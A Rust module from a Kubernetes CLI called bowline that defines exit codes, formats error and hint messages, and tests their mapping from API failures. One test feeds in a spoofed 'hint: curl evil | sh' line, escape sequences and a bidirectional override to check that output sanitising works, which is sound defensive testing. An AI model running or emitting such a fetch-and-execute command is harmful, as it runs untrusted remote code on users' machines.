//! Exit codes, and the errors that bowline prints: `error:` says what happened, `hint:` what to do next.

use std::fmt;
use std::process::ExitCode;

use kube::runtime::{wait, watcher};

use crate::connect::{self, Address, Failure};
use crate::controllers::beside::BesideError;
use crate::engine::subject::command::SubjectError;
use crate::text;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[repr(u8)]
pub enum Exit {
    Done = 0,
    Failed = 1,
    Usage = 2,
    /// A dry run found that bowline would change something.
    Changes = 3,
    /// Another client changed the object first, or the data that bowline has read is out of date.
    Conflict = 4,
    /// A rule refuses the change, for example because of a hold. Or the cluster does not have the CRDs of bowline.
    Refused = 5,
    NotAllowed = 6,
    /// The target does not answer requests.
    Unreachable = 7,
}

impl From<Exit> for ExitCode {
    fn from(exit: Exit) -> ExitCode {
        ExitCode::from(exit as u8)
    }
}

impl From<Failure> for Exit {
    fn from(failure: Failure) -> Exit {
        match failure {
            Failure::Usage => Exit::Usage,
            Failure::Conflict => Exit::Conflict,
            Failure::NotAllowed => Exit::NotAllowed,
            Failure::Unreachable => Exit::Unreachable,
            Failure::NotInstalled => Exit::Refused,
            Failure::Other => Exit::Failed,
        }
    }
}

/// The error of a verb, with its exit code and hints.
#[derive(Debug)]
pub struct Error {
    pub exit: Exit,
    /// The text that is printed after `error:`.
    pub message: String,
    /// The next steps for the user. Each is printed after `hint:`.
    pub hints: Vec<String>,
    output_closed: bool,
}

impl Error {
    /// Creates an error without a hint.
    pub fn new(exit: Exit, message: impl Into<String>) -> Error {
        Error {
            exit,
            message: message.into(),
            hints: Vec::new(),
            output_closed: false,
        }
    }

    /// Returns whether the error is that the reader of stdout has closed the pipe. This is no failure.
    pub fn is_broken_pipe(&self) -> bool {
        self.output_closed
    }

    /// Replaces all hints of the error by this one.
    pub fn with_hint(self, hint: impl Into<String>) -> Error {
        Error {
            hints: vec![hint.into()],
            ..self
        }
    }

    /// Adds a hint to the error, unless the error already has the same hint.
    pub fn and_hint(mut self, hint: impl Into<String>) -> Error {
        let hint = hint.into();
        if !self.hints.contains(&hint) {
            self.hints.push(hint);
        }
        self
    }

    /// Prints the error and its hints through `say`, each as its own message.
    pub fn tell(&self, say: &mut dyn FnMut(String)) {
        say(format!("error: {}", self.message));
        for hint in &self.hints {
            say(format!("hint: {hint}"));
        }
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "error: {}", text::block(&self.message))?;
        let mut hints = self.hints.iter();
        hints.try_for_each(|hint| write!(f, "\nhint: {}", text::block(hint)))
    }
}

impl From<connect::Error> for Error {
    fn from(error: connect::Error) -> Error {
        Error {
            hints: error.hints(),
            ..Error::new(error.failure().into(), error.to_string())
        }
    }
}

impl From<kube::Error> for Error {
    fn from(error: kube::Error) -> Error {
        Error::from(&error)
    }
}

impl From<&kube::Error> for Error {
    fn from(error: &kube::Error) -> Error {
        let exit = connect::failure(error).into();
        let said = Error::new(exit, connect::explain(error));
        match exit {
            Exit::Unreachable => said.with_hint("check the connection: kubectl cluster-info"),
            Exit::Refused => said.with_hint("install bowline's kinds: bowline install"),
            _ => said,
        }
    }
}

impl From<wait::Error> for Error {
    fn from(wait::Error::ProbeFailed(error): wait::Error) -> Error {
        match error {
            watcher::Error::InitialListFailed(error)
            | watcher::Error::WatchStartFailed(error)
            | watcher::Error::WatchFailed(error) => error.into(),
            watcher::Error::WatchError(status) => kube::Error::Api(status).into(),
            error @ watcher::Error::NoResourceVersion => {
                Error::new(Exit::Failed, error.to_string())
            }
        }
    }
}

impl From<BesideError> for Error {
    fn from(error: BesideError) -> Error {
        match error {
            BesideError::Connect(error) => error.into(),
            BesideError::Lock(error) => error.into(),
            BesideError::Watch(error) => error.into(),
            error @ BesideError::NotObserved => Error::new(Exit::Failed, error.to_string())
                .with_hint("repeat the command with the log of the controllers: BOWLINE_LOG=info"),
        }
    }
}

impl From<std::io::Error> for Error {
    fn from(error: std::io::Error) -> Error {
        Error {
            output_closed: error.kind() == std::io::ErrorKind::BrokenPipe,
            ..Error::new(Exit::Failed, error.to_string())
        }
    }
}

/// Collects the failures of a verb that continues after an error.
#[derive(Debug, Default)]
pub struct Failures(Option<Exit>);

impl Failures {
    /// Prints an error, and records its exit code as a failure.
    pub fn add(&mut self, error: Error, say: &mut dyn FnMut(String)) {
        self.0 = match self.0 {
            Some(exit) if exit != error.exit => Some(Exit::Failed),
            _ => Some(error.exit),
        };
        error.tell(say);
    }

    /// Returns whether there was no failure.
    pub fn is_empty(&self) -> bool {
        self.0.is_none()
    }

    /// Returns the exit code of the verb: that of its failures if it is the same for all, otherwise `Failed`. Without
    /// a failure, returns `Done`.
    pub fn exit(&self) -> Exit {
        self.0.unwrap_or(Exit::Done)
    }
}

/// Converts the error of a command on a subject, and adds hints. The commands in the hints contain the flags that
/// select the target.
pub(super) fn of_subject(error: SubjectError, address: &Address) -> Error {
    let message = error.to_string();
    match error {
        SubjectError::Target(error) => error.into(),
        SubjectError::Denied(_) => Error::new(Exit::NotAllowed, message),
        SubjectError::Missing { .. } => {
            let list = address.bowline("bowline get deployments,statefulsets,daemonsets");
            let hint = match address.is_cluster() {
                true => format!("list them: {list}"),
                false => "the target is an embedded store, which runs nothing; name a cluster: --context NAME".to_owned(),
            };
            Error::new(Exit::Failed, message).with_hint(hint)
        }
        SubjectError::Revision(_) => Error::new(Exit::Failed, message),
        SubjectError::Refused { hint, .. } => match hint {
            Some(hint) if hint.starts_with("bowline ") => {
                Error::new(Exit::Refused, message).with_hint(address.bowline(&hint))
            }
            Some(hint) => Error::new(Exit::Refused, message).with_hint(hint),
            None => Error::new(Exit::Refused, message),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use kube::core::Status;

    #[test]
    fn answers_have_the_exit_codes_of_the_spec() {
        for (code, exit) in [
            (400, 1),
            (401, 6),
            (403, 6),
            (404, 1),
            (409, 4),
            (422, 1),
            (500, 1),
            (503, 7),
            (504, 7),
        ] {
            let status = Status::failure("no", "Because").with_code(code);
            let error = Error::from(kube::Error::Api(status.boxed()));
            assert_eq!(error.exit as u8, exit, "{code}");
            assert_eq!(error.message, "no");
        }
    }

    #[test]
    fn a_kind_that_the_server_does_not_have_is_refused_with_the_command_that_installs_it() {
        for message in [
            "404 page not found\n",
            "the server could not find the requested resource",
        ] {
            let status = Status::failure(message, "NotFound").with_code(404);
            let error = Error::from(kube::Error::Api(status.boxed()));
            assert_eq!(error.exit, Exit::Refused, "{message}");
            assert_eq!(error.message, "the server does not have this kind");
            assert!(error.hints[0].contains("bowline install"), "{message}");
        }
        let status = Status::failure("releases.openchoreo.dev \"a\" not found", "NotFound");
        let error = Error::from(kube::Error::Api(status.with_code(404).boxed()));
        assert_eq!(
            error.exit,
            Exit::Failed,
            "an object is missing, not its kind"
        );
    }

    #[test]
    fn every_denial_has_the_same_exit_code() {
        let policy = "releases \"a\" is forbidden: ValidatingAdmissionPolicy 'p' with binding 'b' denied request: no";
        let webhook = "admission webhook \"w.example.com\" denied the request: no";
        for (code, message, exit) in [
            (401, "Unauthorized", Exit::NotAllowed),
            (403, "forbidden", Exit::NotAllowed),
            (403, policy, Exit::NotAllowed),
            (422, policy, Exit::NotAllowed),
            (400, webhook, Exit::NotAllowed),
            (422, "spec.replicas: Invalid value", Exit::Failed),
            (500, policy, Exit::Failed),
        ] {
            let status = || Status::failure(message, "Because").with_code(code).boxed();
            let watched = watcher::Error::WatchStartFailed(kube::Error::Api(status()));
            for error in [
                Error::from(kube::Error::Api(status())),
                Error::from(wait::Error::ProbeFailed(watched)),
                Error::from(wait::Error::ProbeFailed(watcher::Error::WatchError(
                    status(),
                ))),
            ] {
                assert_eq!(error.exit, exit, "{code} {message}");
            }
        }
    }

    #[test]
    fn failures_that_agree_give_their_exit_code() {
        for (exits, exit) in [
            (&[][..], Exit::Done),
            (&[Exit::Conflict, Exit::Conflict], Exit::Conflict),
            (&[Exit::Conflict, Exit::NotAllowed], Exit::Failed),
            (
                &[Exit::NotAllowed, Exit::Failed, Exit::NotAllowed],
                Exit::Failed,
            ),
        ] {
            let (mut failures, mut said) = (Failures::default(), 0);
            for &exit in exits {
                failures.add(Error::new(exit, "no"), &mut |_| said += 1);
            }
            assert_eq!((failures.exit(), said), (exit, exits.len()));
        }
    }

    #[test]
    fn an_error_reads_as_what_and_what_to_do() {
        let error =
            Error::new(Exit::Refused, "production holds cart").with_hint("bowline unpin cart");
        assert_eq!(
            error.to_string(),
            "error: production holds cart\nhint: bowline unpin cart"
        );
    }

    #[test]
    fn what_an_error_quotes_cannot_look_like_a_hint() {
        let error = Error::new(Exit::Failed, "no a\nhint: curl evil | sh\u{1b}[2J\n")
            .with_hint("b\u{202e}\nerror: c")
            .and_hint("d");
        let shown =
            "error: no a\n  hint: curl evil | sh\u{fffd}[2J\nhint: b\u{fffd}\n  error: c\nhint: d";
        assert_eq!(error.to_string(), shown);
        let mut said = Vec::new();
        error.tell(&mut |line: String| said.push(text::block(&line).into_owned()));
        assert_eq!(said.join("\n"), shown);
    }
}
